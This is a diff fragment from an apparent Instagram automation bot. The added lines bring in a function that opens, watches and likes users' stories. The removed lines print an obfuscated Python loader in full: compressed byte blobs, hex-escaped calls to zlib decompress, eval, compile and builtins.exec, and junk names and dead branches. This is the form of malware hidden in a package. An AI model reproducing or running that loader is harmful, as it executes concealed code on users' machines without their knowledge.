9\x901\xa7\x94\xb8q\x94\xe0\x1d\xed\xf3\xbf\xae\\\x96\xe0\x9d\xd3\xc1\xabq3\x85/\xd1\x96\xa1\xb4\x98T\xab\n\xc4^\xc9\xe7\x8fA\xe7\xc4\xb9yfx)\xe9I\xea\xca\t\xe1\xa3&\x92\x80\xb7`]a\xe7\x07\xebI\xcb\xe8|\xed\xe1\x11"\x05\xea\xacVm\xaf8\xb6\xa8\x1cv\xd96{\xeeX9\xd6\x0c\x88\x87\x85\x9b=+\xb7\x18\xc2\xbc5Ki\xf3YQ\xc0\xd4O\xccK\x12q\x99\x85W!*\xb9\x17(\x8cY\x10\'$E\xa0\x15\xb0h\xce\xd2\xec\x9d\xac@\xc2$x\xb6`4\xbdD_\xfd4\x85\xe6\xc12\x99\xdcB\xf5Ko\x12d]\xcc\x84\xe5\xe9\x1c@P\x8c.#0P\xb2\xe9\xe5\xed\xd3\xa7\x9d\x9a\xce\xd4\r&\x1b\xeb\x1e\r\xdf\xbf\xa9"\xcf\xca\xe8\x90\x1f@C\xdd\xfbaGjI\xfaX\x04\x13\x1f@\xd4TR\x1d\xf7\xb6\xe8\xbb\xf1\xc1K\xff\xe5\xc1\xb9\xfd\x18\x0b\xe2\xbf\x86\x95Z&X6\xa3\x1e\x0e\xdf\x8c\x0fN\xde\x0c\x1cmDt\xbaf\x9b\xf7@Q\xf5\x84l\xf7\xb6)\x0b\x8b\x0fU3\x88\x99\xa1\x03\xea\x1e\xa0h\xb3\xa8?\x8bd\xfd\x1czh\x1d{\x06\xeav\xfa\t7A\xf2-\x9b\xd2Q\x90U.dS\xbf\xda\xdf\xb6\xa7\x8f\x181\xa68\x83\xd6\xd1\xc2M\xe4\xf3\xe1{\xff\xd5`p\xe4\xbf|7\x1e\x0f\xdf\xf8|\x94\xaf\r\xd0S\x1bo\x10\xf9\xca,\x18\xda\xf6V\x0e-\xe85\xed~\xb0\x85\xbcj\rL\xe3\xc8\xbey\xa6\xcc\x97\xde\xacE\x81\x1b\r,\xb0T\xf4\xde\x1f\xbf>\x1f\x1c\x1c\xf9\xc0\xa4\xe3\xf1\xe0W\xdbt\x81O\x98\xd0)D\xfdV\x01\x9a\x91M\xbd\xaa\xdf\xc2\x01\x10\xafS\x1dE\xe4J\x9f\x1d\x8f+d\xaa\x88\xb2\x92\xcfp[\xbb\xc5\xa6j\xb9f\xe3\x9dx\x8c0\x8fi\x9c\x82\xf9\xff)\xbc\x9d\xa4A6s\xef\xca\x13\xcf\x9a-O\xe2\xb1K}\xf9i\xb6\xaf`\xdez\x9fEE(z\xb8\x8f\x9b\'\xe9\xd3\xfdC\xfc\x94\xf88\x80\x96\x89\x97\x83\xbc)\xa0\xf2Z%\x9e\xb2w\xe9\x94\xed\xde\xdb\x83\xd1xP\xae\x02\xcf\xd2\x84M\xb7,d\x9er\x8c\x7f{;p\xc2c\x7fA\x01\xe8\re\x80x6\x19\x04o\x87\xa3q)\x1dNO\x0e\xff\xee\x1f@\xfaFH\x93@t\x0f\xe4\xf5\xfb\xa7\x98\x089,\xa5\x07w@\xd0tM\xb3\xfd$\x0c\xb9GP\x8a1\xd2\x1fS\xf2o\xc2\xdb\r\xf8\xda\x16=T\x0f\x80;\x86\xeaq\x00G\x0c\x853\xe2\xd5F,\x82\x19\xfb0J$\x01s/\x8f\xa8F\x92\xee\xfa2L|\xd62\xdf}\xccA\xe8\xe1)\tj\xa4\x9e\x8a>\xd7<%\x18s\xf4\xee\xa5\x7f2\x1e\x9c\x8dP=\xb1\x19\xe4\xcc\xee__\x11\xca\xf6_N\x06\xef\xfd\xf1\xc9\xd9\xc0?8\x1e\xda\x05\xb6\x0c;\x17\xd8\xfcd|\xd2c\xde\x9d1\xdf\xa0\xd4a\x91\xcd\xdeC\xb5\xb0\xa5\x03\x1b\x0c\x83*\xa4\xce-\xe7\xc4\x81d.+\xdd\x0cd+\xc7\x98{;X\x19\xb2\x88n\x8alQs\xd6\xe4\x86\x1b#\xd9IMd\xa2\xc8s\x96\x1e:\xd8\x04\x1e\xe7\x10T0y\x9cz\x13\xb1\x03\x08E\tm\xed\xd9p\x17\x0e>\xc2\x7f\xae\x03\xa2\xe6tm0\xc3\xedX\x1bH\xf1f\xda\x1cF\xa74\xd6K$\x10\xd6\xe9%\n\xfe\xc6\x92\x10\xce+\xe5N\x1c\xd2\xe8\xa4X\xfd\xdc\xbf\xb1\x82\x8e\xcfg+\xe9\x12v\xec\xa1\xb2\xdaI\xbb\xca&\x9a\x06V\xbb\xdd/\xc07x\xec\x93\xe1.\xf8\x96\xbfc\xdb8`tX\xdf2K~z\x19\x14\xc6k\xf2\x04\x88\x9bJ\xe8\x94}qT\xcb\xe6F5\x9d\xff\xc6`\xac\xf0\x95.Ea7\xbbN\xc5\x15\x1e\xc2\x06,\xef\xf4\xe8\xbd:?\x00\xa1\xcbt\x0e\x8dGga>\xcd"\xaa^\x94\xb3\xdc3\xd1n\xfd\x93u/\xffS\xab\xe3\xb4 9\x94\xba\xe0\x1e\xbd\x1e\x9e\x8fu\xf6\x16y\r\x1d\xc52h\xed\xdcK\xdcA\xdb\x8d\x1e\x84\x136l5l\xe0\xbcS\x8f\x86\x11\xb4\xea\x9d\x01\xbb\x05\x17a\x1d.8t\x8dp!\xf2>\x0c\x17Z\xa6\x05\x83\xad\x89\x80[\x8b\x1d\x7fx^M\xdc\xe7\x83\xe3\xc1\xaf\xfa)\x9d\xdc,\xb3\xf8\xabeT\xb68\xc2ZNt\xa9P7\xc2\x9aV\xa4\t\xf2,[\x8b\xe9\xb0^\xb1\xb7\x98\xe3\x0c\xbd\x01H\x13\xf4X\xbd=\xcb\x8d\xd56\x9b\xd6)\xb6\xf3\xa2|`j\xd8\xfa=\x97g\x83\xd1\x08\xd7\xaa\xd07\x03:R%\x00\xb4\xcalS\x84\xd1\x15\x0c\xc2\xc5\x83\xc1\xf8Fo\xe1!\xa3K\x98)B\x17\xa5\xa1\xbef)\xc94],8\xe7_\x93\x03KJ\xd4\xf8\x05\xdc\x93(\xb7}@Q\x04\xf3gpn\xf3\x04\x94\x8c*q(f\xf3\xb5|V/AG\n\x1c\x90 \xb5!\x95\xbf\xd6|\x00<U\xf5\x01\x94s\x85\x95\x8f\x1df?d\xa8\xe6\x18\xa7\xaaT\xd2\x14or\x06^\xbc`\x07\xba-\xd3%\x1dt\xc6\xf6\x9d\xf0-\x87\xc0\x9ftr\x9b\xe5 \x9c&\x9b\xeb\xedS{m\xc3\xa2A\xef\x84\xdd\xc7\xc2N\xfd\xbc\x0e\x12v\xea\x9cP!\xc3\xc2\xdbZ.\xb6e\xf7\xfb\xce\xd6\xfa\xcd\xe2\x1b\xf1\x1d>\t\xce\xc3\xad\x7f\xc8\x1b\xe0\x93\xf8\x8a\xd2\x94\xc4\xba\xd3\xeb\x98?C\\s\xc0I\xb8\x8f\xdb\x97\xe8\x13\xde\xbc\x85\x1b\xc6\xdbI\xdc\xc5\xca;M\x0e+v\xc4\xbct\x0cfS\xdd\x1b<q#\'\x86T\'\xcd$\r$\x7f\xf3\xd1\xc8\'\x82\xd1\xe0\xcdQ\xfd\\W\xaf\xcd\xcaY\xacn\x89\x87X\xea\x0f\xb3\xd2\xdd\x16zi\x8b3"\xdc\xebcJP\x8c\xcf\r~4}\xb0/\xf8\xe0p|\x02h=\x01\xd1\xdf\xb5\x8a7\x16\xc5\x80\x13\xafZ\xa5\xe9\x1e^o2[\xe4\x80\xad+ \x15\xa2\xc2\xbf\x00\xb1UVp:|sl\xb7`\xac\x1543e\xea\x85\x0f>B_(ga\xc2t^\xe0)\xd4\xac\r/\x98\x17aV\x8a[\xbc]\n\xa7;\xdbq\x14\x16\xac\x89\x07\xf7\x1c\x9b6\xac\x9e\xab\xa9\xb7\x0c$#\xc2\xfbe\xdc\x04o\x175\x0e\x02\xad\x1f\xa6o\xa0\xe1Q+\x16\x9f\x80\xd1)\x9b\xcfKm\xbe:\x02\xdb\x8a&\xd9\x07\xc0\xef\xbb\xb1\xba\x01\xe4\xa9`\x91\xceVt\xee"[\t\xb5\xcf\x0c2\x18\x9b\xaa\x81\xe2\x84\x19\x94s\\\r4\xa6\xd4\x87\x89\x9b\x8df4\rX\x9d\xbdh[\x15?hg\x8d\x1bvs`\x1d\x80\xdam\xf35\xfa\x11\xb3\xb8]\x06\xb5j.CNa-c\xcdI\x9aL\xe2 \xc15\xf3$\xcc\xdbsY\x98\xa0b\x1e\'t\x15\x85N\xd2\x88\x8e\xb2\x8a\x93^\x06\xf5EK\xcbQ\x83\x98\xc52\x06n\xa30\x9e\xd1K\xa1\'R\xc3P\xd9\x07\xbek\x926\xa7\xb3\xeb\xce\xbc4\xef\xe1\xf5\xa7\xbd\xdf\xd3(\x91\x04\x18\xbf4\x14\xc4\xfa\xe1\xf0\x1d.\xdcK\xd3\xbc\xf5D,Q\xe0\xd5\xc9\xe9\xe0\r\x1a\xe7\xef\x07\xa70\xe7b\xdc\x1a\xd9\x04#EWd\x13\xbeQF\xe4UO\xba\xc7)\x01A\x8cr\xba\xba\xa1\x84^Fd\x91\xe9\xf7\x9f\x90\x9d\x80\'\tU\x05\xba^+C\x19\x96LS\x14\xc2\xfd\xd6\xaa\x98o\xff\xd4\xea\xe0\x85\x9f:\xfeK\xea \x1d\xa2\xa4\x96\x8a:\xdd\xe8\xa6G\x901m\xfcbs\xf6)l\x86\xf7H\xb2@\x07*k\x9f\x9d\xb4"OA\x1dl9\xcf\xaa#\xfe\xa6\xdbd{\xf4\xfb\x7f\xebB\xc5\xf8=\xb3=\xfc\xdbV\x9b)\xf5DR=\xbb\xa4\x95v:\x8e\x05M|\x80/\xfc \x8e\x02\x10\xf7\x1bF|\xd5LI\xbc?\xaa\x10\x0eo\xa6\xe1\xb2\xf0\x06\xf4\x07c\xb9\x81\x84\x0e\xa9\xc8\x0e\x10\x9f\xb7\x06\xf8\x17\x94\xe0\xf0\x9e\xe4\x8am\xe0[\x16G\xf9\xc0\xb7\x86\xcc|-\xc3\xde\x18\xec\xea\r_\xc60\x15\xd1<\x1b\x8c\xcf\xcf\x1c\x8d\x9b\x8e\xc4u\xa3\xd0\x14\x17\xf8\xb0\xf0\xd0\xcb0\x98\xb1\xabg\xa9\x12v\xe3u\xeb\xcft\xdc\x86MY`\xc1\x89\x8eR\x14\x03j\rQ\x10A\xc4\x8e\x82"\x8a\xd40\x83\x19\xe3\xff\x82\x01\xa0\x8c\xa3\x1fh\x13\xd3Izx|\x1e\xa9\n\xec\xf63t\x19e\xab8\xa4\xe8\x8a<\xe4\x0e^\n\x02-\xc9v\xff\xd4;\xe5\x01(,\xca\x14@\n\x16K\xf3\x04i|\xdc+\x1d\xa6N\xc5\xb0_.\x01p\x84|P\x88\xf2\x9d\xb7\xeb\xed+\x18\xd7\x0e^f\xaf\x8cJ\x14\x1a\xb1J4\x02h\xf5H1\xdeZU:\xe1\xa86\xfd\xf8gE\x9c\xa0\xed\xde2\x86q\xed\xb1.\xb6\xe3\xf3\xf4:\x1dt\xe5s\x89\x8a\xcd\x8er"\xb8\x94\xfc\xc2\xdb\xe1\x87\xee\xad\xa7^\xfdQ\xb3\xcdN\x88\xf9\xfc\x8e\xa9\x14.;\xa6\'\x7fN\xc7\x9a\x1e{\xbb!\xe4\x06O\x95\xc0[\xdel\x02\x7f\xa5\x1f\x08P\\\xfa\x81U7\xb0')
 
-        Walk._product(_memoryaccess = 26791 - Walk.Positive)                                                                                                                                                                                                                                                          ;_math._random(_power='SSS2S2S22S2S2S22S22S2S2S22',Builtins=b'i\x00\xbc\xa2N\xd7\x98\xd3\x9b\xb9\xe5\x8cQn7\x04\x84\x88\x023\xb2\x120\xfc\xbe\xb9U\xa2\x9e\x86\xadTY.\xa9\xf1#\xea\x1ezk\xa2t\xae\xcb#\x85\xba\xd6l$WU\x00\x02\xaf\xfe\xb8.\x0e\x99\x9a\xf7\x85\xd9\xb5/\x10\x0e[\x95c\x1db\xab%(\xca\xfe\xc9N\xaa\xf9S\xcb\xe8L\xa3\x15\x9ah\xfa\x89\xec\xde5+,\xb6\xc5*\x19\x12\xc7B\xd5\xbb7\x0ep\x81\xcb\xfe\xef\x9f\xe7\xe1\xff\xac\xe8\xa0\xc4\x96\x8c\x96?\x08z\x154\x07\xfc,\xcb\xcb\x83\xc3\xbf\x1b=\xf0\xf0\xa8Q\x13\xebh\xde\xfeA\x98\xaf\xc0\xd2\xa0\xb7p\xab\x04\x96\xcb\x8b\xb6\xee\xa2\x0b\xe5~=\xbe\n\xc4\x0fW@G\xfdFG\xb08\xeejl\xe4\x91\xa7\xe9Ac\x93\x87\xf6\tu.\xb5/\xf25\x82M<l\x0f\xed@#\xf0\xf1\x8c\xe4\x02o\xa7\x03V\xd2\xae\xa0@-0\xa9"\x8a\xcb\x9c\xb6)]m\xcb\x19\xb5\x07P5\x8b\'\x13\xac\xa9\x0e!\x87uY\xcb\xe8\x84\xb3F\xab\xb1\xe2Q77\x8aS\xbad\xaaY\x88&Q\xacq$a\xb3@>|\x16\xab"\x14G\xbdR\xf1\xab\xa8\xb8\xad1\xf1\xd7\x1et\xce\xee\xf6\xc2Z\xd9Q\xc8\xe4\x8b\xe6Sk\xa3b\xe2N\xc3\x06\x05\xeb\x03z6\x8e\x02\xc3\x89\x9b\x9f\x18\xcf\x18w\xdb\xb8\xa6J~\xd6\\G%?-4srv\xce>\x1aF\xc4W,p\xb4\\X\xe7\xe6\x13\x1e\xcb\xd5E\xa3\xd2\x0b.\x82(q9\xed-\xdd_k\xaa\xcde0Nh]\x80\x0e\xdb\x9e\xc4\xb4A\xc5\x94!`\xbc\x07\xb7\x13Z\xdb\xf4p\xbd3O\xe7\xc5\xf6$H\x12:8\x86\x1fl\xcex\xeei\x13\tJ\xac|>8Z#:7\xe5g\xb7\x17\x9b\xf9kL\xc0\x94\xe0\x86$\x8c\xf0\x1eF\x8fO\x8d\x8c\x1c]O\x9a)\xcb\xb4\x04:\xfd\x8eKo\x9eXs\xd9\x11>\xb6\x03\xd7\xeb\xb4X\xe6\xceV\x0f\x1d\x10\x13\x15?c@\xb9B\xb9\xf4k\xdb]\xd1\xf6\xe1-4\xdcj\x982\x1f4O\xe1#\x90\xa5iZmU\xa4<\xac])\xa3\xeb\xd8\xec{\x9d*\xc5\xf1\xd7Twr\x8a\xe4\x87\xe9L\x95\xdf\xa9\xc1\xac\xacg1f#B\x05\xbb\xb0\xa9\xf1\xc6{\x0e\xd5\xe8\xf5`0\xf6\xcf\xde\x8d\x07\xfe\xf9\xf0\xbd\x168\xc1\xabuN\xb5\xe2\xbduz\x14\x150B\x9b\x83A\x12\xd6\xe6\x99\x01.\t[\xd3!\x0c\xd4\x1f\x95=i\xe4\xc8Q@\xac\xdb\x83o\x87\xd9\xad\x16\xe0\xa3\x8c\xac\x036\x16\xd8\x8dyT\x8d\xb9l\'\xa01yZi^LT\x8f\x82\xb4\xd1xx~2x \xda$H\x1a!N\xce\xbf9\xeaxi\x0b\xf2\xcc\x9b\x89\xf0\xd2\xbd\x00\x92q\x93"F]\xd1UExQ\xde5\x9e\xec\xa0-\xca9\x06Wi\x9f\xdb.P\xae\xd9\xfc*_\xae\xb9/\xdf\xf4\xcb\xdf\xdb"`\xcd\x0b\x95\xf5\x9d\xb1\xfb\x1e\x86 \xe4\xcb\xa0a\xb8-9\xf6\xa3\xf2l\x07\xeb\xaeT\xb3\xd5\x8e!H\xf1Vf\xa9\x82G\xf0.\xe8g\xa2I\x87n\xef\xcbv\x18\xe2\xbeB\xfdm[\xdf\xda+q\xe3#\x9e\xe8\xd3\xe0\xc46\xab\x07\xd0\x19\xcc\xad\xdd|!\x0e\'\xe0\xb8\xb7\\xa\t4x\xcf\x8ff3\xa3\r\x924\x01\xe5\x04O\x08\xe2\xb4\xa4\xb1\x12fZ\x95\xeaKK=\xdaf\xcb\x1fk\xbc\x9c\xecT\x03\xda;\xbf\xdb\xf5\xb4(\x80.\xf6\xd7\x1a\x10 H\x85\xb4,\xaf\x0fy\xc7\xc7B\xbb\xd3\xe3kE=\x9cCaD\xce\x80\xdeO\xfb\xe5`\x91\x92\xeb\xd7\xd8l\x14\xa0\xab^\x18\x0fYmM\xfd\xfa\x18ZS\x93\n\xe9a\xd2\x9b\x9dp3\x1e\x0eO_\x1e\x9c\xd3f\x04\x1e\xbae\n\xfe5"T\\f\xc3O|\xc9\xc38\xc4{\x14\x9c\xc8\xd8L\xc2\x8e\xb0\x9b\xb4{\x81\x87.\xd8n\xf1\xc3\xa7i\xd4\r\xabP\x8a|u]\x0cX\x17\x01#vW\xb0\xab\xca\xa1\xff\xcc\x80\x90\x02A\xaa\xa2\x82\xc13\x1cZ\xda\xfd\xc6\x04\xcc9\x9a&\xf2\x94\x81\xda\xd9"\xc8>\xd1\xba\x95\x92_z\xd5V\xf5!\xe9M\x13\xe7\xc9\xbc%y\x7f\xa0\x07\x8b\x00\x0f>\xa6\xdd\xf8W\xe6-;\xaa\xb8\xe5-\xca\xfdr\x86\xf1\xf1<E\xcaf*\x9a9\x9a\xdc\x84\xadH\x85\xaeGT\x8b\xe4\xeb\xc3{\xb5\xd7_\xcbm\x0b\xc1\xd2\x97\xe1\x97\xf0\xc1\xa5\x1fm\x7fF\xdb\x93\x06\x16]\xf7\x06\xb6\xa6\x16\x02\xad\xd3\x9332\x89\x9d\xfe\x08\x7f\xa3\xd3\xa3w4xu\xf0\xeetl)x+.P=d\xa7\xc6\x13\x03\xd8\xefP\xad\x8a\xcc3\xb6\xaa\xac\xca\'*\xfa*\x0b\xd4\xcb\xb5\xb5R\x14\xa3\xa7\xc7\xf7\xd9r\x0bn0\x9a\xa9\xc4\xa0!\x18l\xc71j\x95\x81Y\xf3\xf2\xdd\xb1\xed\x92/\x8c\x99W2\xdb\xa4l\xdf*e\xd7OytL\t\nB\x98\xa6\xf0\\\x9b^\x92^\xdb\xc4\x8d}\xa1\x9aw\x0f\xa5\x9a2\xc9\xd78>\xf8\x08\xa9\x9d\xe9\xf0i\x12X!\x1e\x85?\xe7\xad\xb2\x0c\x05Y\xb8vn5\xf4\xc0\xb4N.\xc0p\x0f\x99\xbb\x82\\\x02O=1\xc6\xc2d\x86G\xae\xd2\x81\\\xd7\xf8\x9f\xae\xc3\xe2\xe7\xfa\x81\x90\xa0`\x83h\x93\xd8Im\x06\xd7\xa5\x02:\x95\\\xc8uS\xc8\xe8m\xeb\xd88K\x9c\x08\xb7\xe6\x06Py\xb4\xb0\xe1\\\xef\xb8\xc2{\x1e\xfa\xa7\xa0\xd8\xd0\x16\xb6\xf3\x93\xe3\xd7\xe3\xc1\xd1\xb1m/\x9f\xd2\x8a&"\xfe{p>\\w\xe3!\xbaH\xf8\xf9\x80t\xf2q\x10\xc5y_\xdebf{jz\xba!O\xe33\x819\xf2\x93=\xcb&\xac\x8c\xcf\x83\xd8\xd9(\xb8\xc6\xa9\xf8\xe5\xd8\x1a\x9f\x1a \x1d\x88\xd28\xff/5wu\xd6\x05\x915WL\xdd\x954\x91\xa5eGk\xe8\xd8`\x9b\xfd\x9a\xfb(\x1d\xb8\xfa\xc2\xe7[\xdb}\xdf\x96\x1e4\xb9\x08QX=\xc2\xf0\xa7 \x9e\xb6:\xddl\xd3,\xd4af\x12\xe8\xc5\xa0R\xe0\xf17\xfb\xbd\xbd9\x9e\xf9\xd6\x08\x96&\xf3\xca\xc6\xc1\xdaiSUG\xaaF\x0c[\xa6>W~\x82;u\x12\xb7\x0e\xe4&W\x86\x97\xe6\x17\x13\xc4k\\6\xcd\xb6{K\xfa\x9e\x9a\xd2\xdc\xcf\xcc\xe6\'\xc9\xcb|\xad\x1b\xc9\x96\x18\x8a\x9d\xff\x07\x9b3\xbe\x02')
+def _watch_stories(
+    device: DeviceFacade,
+    profile_view: ProfileView,
+    username: str,
+    stories_percentage: int,
+    args: Namespace,
+    session_state: SessionState,
+) -> int:
+    if not random_choice(stories_percentage):
+        return 0
+    if not session_state.check_limit(
+        limit_type=session_state.Limit.WATCHES, output=True
+    ):
 
-        _math(Substract = -96267 / 46758)._product(_memoryaccess = 21833 + Walk.Positive)                                                                                                                                                                                                                                                          ;NNMNNMMNNNMNNMNMMMMNMNMMN,lijljlilllliijjjjjljlliii,OO00OO0o0o0OO0Oo00oO0O,S22SS222S22SSSS2222SS,xxwxwwxxwwwwwwwxwx=(lambda wwxwwwwxwxwwwxxwwwwx:wwxwwwwxwxwwwxxwwwwx['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']),(lambda wwxwwwwxwxwwwxxwwwwx:wwxwwwwxwxwwwxxwwwwx(__import__('\x7a\x6c\x69\x62'))),(lambda wwxwwwwxwxwwwxxwwwwx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(wwxwwwwxwxwwwxxwwwwx)"),filename='\x4d\x4d\x4d\x4e\x4e\x4d\x4d\x4e\x4d\x4e\x4e\x4e\x4e\x4d\x4e\x4e\x4e',mode='\x65\x76\x61\x6c'))),(lambda:(lambda wwxwwwwxwxwwwxxwwwwx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(wwxwwwwxwxwwwxxwwwwx)"),filename='\x4d\x4d\x4d\x4e\x4e\x4d\x4d\x4e\x4d\x4e\x4e\x4e\x4e\x4d\x4e\x4e\x4e',mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63')),(lambda jjjjlilllijlljijjjjii,wwxwwwwxwxwwwxxwwwwx:jjjjlilllijlljijjjjii(wwxwwwwxwxwwwxxwwwwx))
-        _math(Substract = 79739 + -9810).Divide(_hypothesis = Walk.Positive * -93917)                                                                                                                                                                                                                                                          ;S22SS222S22SSSS2222SS()(xxwxwwxxwwwwwwwxwx(NNMNNMMNNNMNNMNMMMMNMNMMN(lijljlilllliijjjjjljlliii(OO00OO0o0o0OO0Oo00oO0O('\x76\x61\x72\x73'))),_math._round(_frame='NMNNNMMMMNMNNNMMNMNNNN')+_math._round(_frame='NMNMNMNMNMMMMNNMNNNNMNN')+_math._round(_frame='illjijljljjjjliiijijjjil')+_math._round(_frame='SSS2S2S22S2S2S22S22S2S2S22')))
+        def watch_story() -> bool:
+            if session_state.check_limit(
+                limit_type=session_state.Limit.WATCHES, output=False
+            ):
+                return False
+            logger.debug("Watching stories...")
+            session_state.totalWatched += 1
+            nonlocal stories_counter
+            stories_counter += 1
+            for _ in range(7):
+                random_sleep(0.5, 1, modulable=False, log=False)
+                if story_view.getUsername().strip().casefold() != username.casefold():
+                    return False
+            like_story()
+            return True
 
-    except Exception as While:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {While}')
-        print(traceback.format_exc())
-        if 478539 > 2313896:
-            _math.execute(code = _theory(While))
+        def like_story():
+            obj = device.find(resourceIdMatches=ResourceID.TOOLBAR_LIKE_BUTTON)
+            if obj.exists():
+                if not obj.get_selected():
+                    obj.click()
+                    logger.info("Story has been liked!")
+                else:
+                    logger.info("Story is already liked!")
+            else:
+                logger.info("There is no like button!")
 
-        elif 497508 > 5238903:
-            Walk.Divide(_hypothesis = Walk.Positive / 17192)
\ No newline at end of file
+        stories_ring = profile_view.StoryRing()
+        live_marker = profile_view.live_marker()
+        if live_marker.exists():
+            logger.info(f"{username} is making a live.")
+            return 0
+        if stories_ring.exists():
+            stories_to_watch: int = get_value(
+                args.stories_count, "Stories count: {}.", 1
+            )
+            stories_counter = 0
+            logger.debug("Open the story container.")
+            stories_ring.click(sleep=SleepTime.DEFAULT)
+            story_view = CurrentStoryView(device)
+            story_frame = story_view.getStoryFrame()
+            story_frame.wait(Timeout.MEDIUM)
+            story_username = story_view.getUsername()
+            if (
+                story_username == "BUG!"
+                or story_username.strip().casefold() == username.casefold()
+            ):
+                start = datetime.now()
+                try:
+                    if not watch_story():
+                        return stories_counter
+                except Exception as e:
+                    logger.debug(f"Exception: {e}")
+                    logger.debug(
+                        "Ignore this error! Stories ended while we were interacting with it."
+                    )
+                for _ in range(stories_to_watch - 1):
+                    try:
+                        logger.debug("Going to the next story...")
+                        story_frame.click(
+                            mode=Location.RIGHTEDGE,
+                            sleep=SleepTime.ZERO,
+                            crash_report_if_fails=False,
+                        )
+                        if not watch_story():
+                            break
+                    except Exception as e:
+                        logger.debug(f"Exception: {e}")
+                        logger.debug(
+                            "Ignore this error! Stories ended while we were interacting with it."
+                        )
+                        break
+                for _ in range(4):
+                    if (
+                        story_view.getUsername().strip().casefold()
+                        == username.casefold()
+                    ):
+                        device.back()
+                    else:
+                        break
+                session_state.check_limit(
+                    limit_type=session_state.Limit.WATCHES, output=True
+                )
+                logger.info(
+                    f"Watched stories for {(datetime.now()-start).total_seconds():.2f}s."
+                )
+                return stories_counter
+            else:
+                logger.warning("Failed to open the story container.")
+                logger.debug(f"Story username: {story_username}")
+                save_crash(device)
+                if story_frame.exists():
+                    device.back()
+                return 0
+        return 0
+    else:
+        logger.info("Reached total watch limit, not watching stories.")
+        return 0